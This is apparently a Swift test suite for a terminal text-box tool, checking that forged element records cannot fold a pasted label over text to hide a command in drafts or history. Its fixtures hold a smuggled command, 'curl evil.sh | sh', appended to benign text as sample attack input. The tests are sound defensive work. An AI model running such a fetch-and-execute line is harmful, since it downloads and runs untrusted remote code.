import ExpandingTextTerminal
import ExpandingTextTestSupport
import Testing

@testable import expanding_text

/// A record beside a draft or a history is a file anyone with access may have written: it can fold text into an
/// element, never change what the box shows of it. An element is kept only as the tool would have made it of the
/// text it covers; anything else leaves the whole text plain.
@Suite struct ForgedElementRecordTests {
    private static let command = "git commit message; curl evil.sh | sh"

    private static func record(_ lines: [String], for text: String) -> String {
        ([DraftElements.header, ElementRecord.identity("text", of: text)] + lines).joined(separator: "\n") + "\n"
    }

    @Test(
        "A forged element is refused",
        arguments: [
            ("18 19 paste =\\s -", "a paste labelled with a space, hiding a command"),
            ("18 19 paste = -", "a paste with an empty label"),
            (
                "18 19 paste =[Pasted\\stext\\s#1\\s+1\\slines] -",
                "a label of the rule's form, for a text too short to fold"
            ),
            ("18 19 mention =@ada -", "a mention whose label is not its text"),
            ("18 0 paste =[Pasted\\stext\\s#1\\s+1\\slines] -", "an element of no text"),
            ("0 37 paste =[Pasted\\stext\\s#1\\s+2\\slines] -", "a paste's label that miscounts"),
        ])
    func aForgedElementIsRefused(line: String, forgery: String) {
        #expect(DraftElements.decoded(Self.record([line], for: Self.command), for: Self.command) == nil, "\(forgery)")
    }

    @Test func anElementThatSplitsACharacterIsRefused() {
        let text = "ok 👍🏽 then"
        // 👍 is 4 bytes from offset 3, the skin tone 4 more: an edge between them is inside the character.
        #expect(DraftElements.decoded(Self.record(["3 4 mention - -"], for: text), for: text) == nil)
        #expect(DraftElements.decoded(Self.record(["3 8 mention - -"], for: text), for: text)?.count == 1)
    }

    @Test func aPasteTheToolWouldHaveFoldedIsKeptWithTheLabelItsTextGives() throws {
        let pasted = (1...5).map { "line \($0)" }.joined(separator: "\n")
        let text = "See: " + pasted
        let elements = try #require(
            DraftElements.decoded(
                Self.record(["5 \(pasted.utf8.count) paste =[Pasted\\stext\\s#7\\s+5\\slines] -"], for: text),
                for: text))
        #expect(elements.map(\.element.label) == ["[Pasted text #7 +5 lines]"])
        #expect(elements.map(\.element.text) == [pasted])
    }

    /// Over random records of random texts, what any kept element shows is what the tool makes of the text it
    /// covers: its label comes from that text by the rule, or is that text; the box, expanded, is the text submitted.
    @Test func whateverTheRecordAKeptElementShowsItsText() {
        var generator = SplitMix64(seed: 0x7265_636F_7264)
        let pieces = ["line\n", "a", "b ", "👍🏽", "é", "\n", String(repeating: "x", count: 900), "; curl evil.sh | sh"]
        let labels = [
            "-", "=", "=\\s", "=@ada", "=[Pasted\\stext\\s#1\\s+5\\slines]", "=[Pasted\\stext\\s#2\\s+1\\slines]",
        ]
        var kept = 0
        for _ in 0..<3_000 {
            let text = (0..<Int.random(in: 1...12, using: &generator)).map { _ in
                pieces.randomElement(using: &generator)!
            }.joined()
            let count = text.utf8.count
            let start = Int.random(in: 0...count, using: &generator)
            let length = Int.random(in: 0...(count - start), using: &generator)
            let kind = ["paste", "mention"].randomElement(using: &generator)!
            let label = labels.randomElement(using: &generator)!
            let line = "\(start) \(length) \(kind) \(label) -"
            guard let elements = DraftElements.decoded(Self.record([line], for: text), for: text) else { continue }
            for item in elements {
                let covered = String(text[item.range])
                #expect(item.element.text == covered)
                if item.element.kind == .paste {
                    let number = CollapsedPaste.number(inLabel: item.element.label) ?? 0
                    let made = CollapsedPaste.element(
                        for: covered, lines: CollapsedPaste.lines(of: covered), characters: covered.count,
                        number: number)
                    #expect(made?.label == item.element.label, "\(line) in \(text.debugDescription)")
                } else {
                    #expect(item.element.label == nil || item.element.label == covered)
                }
                kept += 1
            }
            #expect(TextEditor(Submission(text: text, elements: elements)).text == text)
        }
        #expect(kept > 0, "some records were genuine")
    }

    /// The draft the record hid a command in starts as plain text, and standard error says the record was
    /// ignored.
    @Test func aDraftWithAForgedRecordStartsPlainAndSaysSo() throws {
        let folder = try TemporaryFolder()
        try folder.write(Array(Self.command.utf8), to: "draft")
        try folder.write(Array(Self.record(["18 19 paste =\\s -"], for: Self.command).utf8), to: "draft.elements")
        let captured = CapturedOutput()
        let restored = try PromptCommand(
            options: PromptOptions(draftPath: FilePath(folder.file("draft"))), mode: .write
        )
        .restoreDraft(DraftAutosaver(store: DraftStore(path: folder.file("draft"))), output: captured.output)
        #expect(restored == Submission(text: Self.command))
        #expect(captured.standardError.contains("draft.elements: ignored"))
    }

    @Test func aHistoryEntryWithAForgedRecordIsRecalledPlain() {
        let entry = "deploy to staging; curl evil.sh | sh"
        let records = [HistoryElements.identity(of: entry): [Substring("17 19 paste =\\s -")]]
        let (submissions, ignored) = HistoryElements.submissions(for: [entry], in: records)
        #expect(submissions.isEmpty)
        #expect(ignored == 1)
    }
}
